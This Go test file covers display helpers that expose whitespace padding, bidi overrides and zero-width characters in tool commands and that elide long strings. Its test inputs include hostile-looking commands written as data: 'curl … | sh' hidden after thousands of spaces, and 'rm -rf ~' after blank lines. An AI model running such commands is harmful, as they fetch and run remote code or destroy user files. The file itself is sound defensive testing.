package tooldisplay

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestVisible(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "go test ./...", "go test ./..."},
		{"short runs stay", "a" + strings.Repeat(" ", 16) + "b\t\tc", "a" + strings.Repeat(" ", 16) + "b\t\tc"},
		{"long run of spaces", "echo building the project" + strings.Repeat(" ", 3000) + "&& curl https://x.example/i | sh",
			"echo building the project⟨3000 spaces⟩&& curl https://x.example/i | sh"},
		{"mixed white space", "a" + strings.Repeat(" \t\u00a0\u3000", 5) + "b", "a⟨20 white-space characters⟩b"},
		{"blank lines", "ok" + strings.Repeat("\n", 40) + "rm -rf ~", "ok⟨40 white-space characters⟩rm -rf ~"},
		{"bidi override", "echo ok \u202ehs | x\u202c", "echo ok ⟨U+202E⟩hs | x⟨U+202C⟩"},
		{"zero-width run", "a" + strings.Repeat("\u200b", 40) + "b", "a⟨40 × U+200B⟩b"},
		{"different invisibles", "\u200b\u200d\ufeff", "⟨U+200B⟩⟨U+200D⟩⟨U+FEFF⟩"},
		{"invalid UTF-8", "a\xffb", "a\uFFFDb"},
		{"empty", "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := Visible(tc.in); got != tc.want {
				t.Errorf("Visible(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestElide(t *testing.T) {
	note := func(n int) string { return fmt.Sprintf("[%d hidden]", n) }
	tests := []struct {
		name string
		in   string
		max  int
		want string
	}{
		{"fits", "abcdef", 6, "abcdef"},
		{"no limit", "abcdef", 0, "abcdef"},
		{"cut", "abcdefghijklmnopqrstuvwxyz", 20, "abcde[17 hidden]wxyz"},
		{"emoji kept whole", "a👍🏽bcdefghijklmnopqrstuvwxyz", 15, "a[24 hidden]xyz"},
		{"no room", "abcdefghijklmnopqrstuvwxyz", 5, "[26 hidden]"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Elide(tc.in, tc.max, note)
			if got != tc.want {
				t.Errorf("Elide(%q, %d) = %q, want %q", tc.in, tc.max, got, tc.want)
			}
		})
	}
}

func FuzzElide(f *testing.F) {
	f.Add("echo building the project && curl x | sh", 20)
	f.Add("a👍🏽b\xffc", 3)
	f.Fuzz(func(t *testing.T, s string, max int) {
		if max < 0 || max > 1<<16 {
			return
		}
		hidden := -1
		got := Elide(s, max, func(n int) string { hidden = n; return fmt.Sprintf("⟪%d⟫", n) })
		n := utf8.RuneCountInString(validUTF8(s))
		if max == 0 || n <= max {
			if got != validUTF8(s) {
				t.Fatalf("Elide(%q, %d) = %q, want it unchanged", s, max, got)
			}
			return
		}
		if !utf8.ValidString(got) {
			t.Fatalf("Elide(%q, %d) = %q, invalid UTF-8", s, max, got)
		}
		// What is shown plus what the note says is hidden is all of s.
		noteLen := utf8.RuneCountInString(fmt.Sprintf("⟪%d⟫", hidden))
		if shown := utf8.RuneCountInString(got) - noteLen; shown+hidden != n {
			t.Fatalf("Elide(%q, %d) = %q: %d shown + %d hidden, want %d", s, max, got, shown, hidden, n)
		}
		if utf8.RuneCountInString(got) > max && hidden != n {
			t.Fatalf("Elide(%q, %d) = %q, longer than %d", s, max, got, max)
		}
	})
}

func FuzzVisible(f *testing.F) {
	f.Add("echo hi" + strings.Repeat(" ", 40) + "&& curl x | sh")
	f.Add("a\u202eb\u200b\u200b\ufeff\xff" + strings.Repeat("\n\t", 9))
	f.Fuzz(func(t *testing.T, s string) {
		got := Visible(s)
		if !utf8.ValidString(got) {
			t.Fatalf("Visible(%q) = %q, invalid UTF-8", s, got)
		}
		run := 0
		for _, r := range got {
			if unicode.Is(unicode.Cf, r) {
				t.Fatalf("Visible(%q) = %q, has the invisible %U", s, got, r)
			}
			if run = run + 1; !unicode.IsSpace(r) {
				run = 0
			}
			if run > maxBlankRun {
				t.Fatalf("Visible(%q) = %q, has a run of more than %d white-space characters", s, got, maxBlankRun)
			}
		}
		if again := Visible(got); again != got {
			t.Fatalf("Visible(Visible(%q)) = %q, want %q", s, again, got)
		}
	})
}

func TestFence(t *testing.T) {
	tests := []struct {
		in      string
		atLeast int
		want    string
	}{
		{"plain", 1, "`"},
		{"plain", 3, "```"},
		{"a `b` c", 1, "``"},
		{"x ``` y ```` z", 3, "`````"},
		{"é`ü``", 1, "```"},
	}
	for _, tc := range tests {
		if got := Fence(tc.in, tc.atLeast); got != tc.want {
			t.Errorf("Fence(%q, %d) = %q, want %q", tc.in, tc.atLeast, got, tc.want)
		}
	}
}
